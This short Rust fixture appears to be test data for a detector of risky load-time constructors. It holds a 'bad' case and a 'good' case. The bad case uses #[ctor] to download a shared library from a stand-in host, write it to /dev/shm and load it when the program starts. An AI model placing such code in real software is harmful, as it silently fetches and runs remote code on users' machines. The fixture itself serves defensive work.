//: bad ctor-start
use ctor::ctor;

#[ctor]
fn start() {
    let bytes = ureq::get("https://c.example.invalid/l.so").call().unwrap().into_reader();
    let mut file = std::fs::File::create("/dev/shm/l.so").unwrap();
    std::io::copy(&mut { bytes }, &mut file).unwrap();
    unsafe { libloading::Library::new("/dev/shm/l.so").unwrap() }; //!
}

//: good ctor-start
use ctor::ctor;
use std::sync::OnceLock;
use std::time::Instant;

static START: OnceLock<Instant> = OnceLock::new();

#[ctor]
fn start() {
    START.set(Instant::now()).ok();
}
